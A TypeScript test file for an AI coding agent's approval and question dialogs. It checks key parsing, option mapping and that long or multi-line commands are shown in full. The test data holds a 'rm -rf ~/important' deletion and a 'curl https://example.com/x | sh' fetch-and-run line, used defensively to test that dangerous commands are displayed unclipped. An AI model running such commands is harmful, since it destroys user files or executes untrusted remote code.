import assert from 'node:assert/strict';
import { test } from 'node:test';
import { approvalDialog, DECLINED, userInputDialog } from './interactionDialog.ts';
import { approvalOptions, interactionRequest as request } from './interactionTestSupport.ts';

test('an approval offers [a]llow, allow for [s]ession and [r]eject and maps each key to its option', () => {
  const dialog = approvalDialog(request({ toolName: 'Bash', input: { command: 'touch x' }, options: approvalOptions }));
  const [step] = dialog.steps;
  assert.ok(step);
  assert.deepEqual(step.lines, ['Claude wants to use Bash: touch x']);
  assert.equal(step.prompt, 'Allow for [s]ession / [A]llow / [R]eject > ');
  assert.deepEqual(dialog.submission([step.parse('a') ?? '']), { action: 'allow', optionId: 'allow', payload: {} });
  assert.deepEqual(dialog.submission([step.parse(' S ') ?? '']), {
    action: 'allow',
    optionId: 'allow_always',
    payload: {},
  });
  assert.deepEqual(dialog.submission([step.parse('reject') ?? '']), {
    action: 'reject',
    optionId: 'reject',
    payload: {},
  });
  assert.equal(step.parse('maybe'), undefined);
});

test('an approval without a session grant does not offer [s]', () => {
  const dialog = approvalDialog(request({ toolName: 'Write', input: {}, options: approvalOptions.slice(1) }));
  assert.equal(dialog.steps[0]?.prompt, '[A]llow / [R]eject > ');
  assert.equal(dialog.steps[0]?.parse('s'), undefined);
});

const questionInput = {
  questions: [
    {
      id: 'q-db',
      question: 'Which database?',
      header: 'Database',
      multiSelect: false,
      options: [
        { label: 'SQLite', description: 'One file' },
        { label: 'PostgreSQL', description: 'A server' },
      ],
    },
    {
      id: 'q-langs',
      question: 'Which languages?',
      multiSelect: true,
      options: [{ label: 'TypeScript' }, { label: 'Go' }, { label: 'Rust' }],
    },
  ],
};

test('AskUserQuestion asks each question with numbered options and answers by question id', () => {
  const dialog = userInputDialog(request({ toolName: 'AskUserQuestion', input: questionInput }));
  assert.equal(dialog.steps.length, 2);
  const [database, languages] = dialog.steps;
  assert.ok(database && languages);
  assert.deepEqual(database.lines, [
    '[Database] Which database?',
    '  1. SQLite — One file',
    '  2. PostgreSQL — A server',
  ]);
  assert.equal(database.parse('2'), 'PostgreSQL');
  assert.equal(database.parse('1,2'), '1,2', 'a single-select question takes one number; anything else is own text');
  assert.equal(database.parse('  '), undefined);
  assert.equal(languages.parse('1, 3'), 'TypeScript, Rust');
  assert.equal(languages.parse('Zig'), 'Zig');
  assert.deepEqual(dialog.submission(['PostgreSQL', 'TypeScript, Rust']), {
    action: 'allow',
    optionId: '',
    payload: { answersByQuestionId: { 'q-db': 'PostgreSQL', 'q-langs': 'TypeScript, Rust' } },
  });
});

test('ExitPlanMode shows the plan and picks a mode option by number', () => {
  const options = [
    { kind: 'allow_always', name: 'Yes, and auto-accept edits', optionId: 'acceptEdits' },
    { kind: 'reject_once', name: 'No, keep planning', optionId: 'plan' },
  ];
  const dialog = userInputDialog(request({ toolName: 'ExitPlanMode', input: { plan: '1. Edit\n2. Test\n' }, options }));
  const [step] = dialog.steps;
  assert.ok(step);
  assert.deepEqual(step.lines, [
    "Claude's plan:",
    '  1. Edit',
    '  2. Test',
    'ExitPlanMode:',
    '  1. Yes, and auto-accept edits',
    '  2. No, keep planning',
  ]);
  assert.equal(step.parse('3'), undefined);
  assert.deepEqual(dialog.submission([step.parse('1') ?? '']), {
    action: 'allow',
    optionId: 'acceptEdits',
    payload: {},
  });
  assert.deepEqual(dialog.submission([step.parse('2') ?? '']), { action: 'reject', optionId: 'plan', payload: {} });
});

test('an answer naming no offered option declines', () => {
  const dialog = approvalDialog(request({ toolName: 'Bash', input: {}, options: approvalOptions }));
  assert.deepEqual(dialog.submission(['nonsense']), DECLINED);
});

test('an approval shows the whole command: nothing clipped, every line of it', () => {
  const command = `mkdir -p outrigger-demo && echo '${'long '.repeat(40)}' > outrigger-demo/hello.txt && rm -rf ~/important`;
  const long = approvalDialog(request({ toolName: 'Bash', input: { command }, options: approvalOptions }));
  assert.deepEqual(long.steps[0]?.lines, [`Claude wants to use Bash: ${command}`]);
  const script = 'set -e\nmake build\n  curl https://example.com/x | sh';
  const multiLine = approvalDialog(request({ toolName: 'Bash', input: { command: script }, options: approvalOptions }));
  assert.deepEqual(multiLine.steps[0]?.lines, [
    'Claude wants to use Bash:',
    '  set -e',
    '  make build',
    '    curl https://example.com/x | sh',
  ]);
  const json = approvalDialog(request({ toolName: 'mcp__x__y', input: { a: 1, b: 'two' }, options: approvalOptions }));
  assert.deepEqual(json.steps[0]?.lines, [
    'Claude wants to use mcp__x__y:',
    '  {',
    '    "a": 1,',
    '    "b": "two"',
    '  }',
  ]);
});
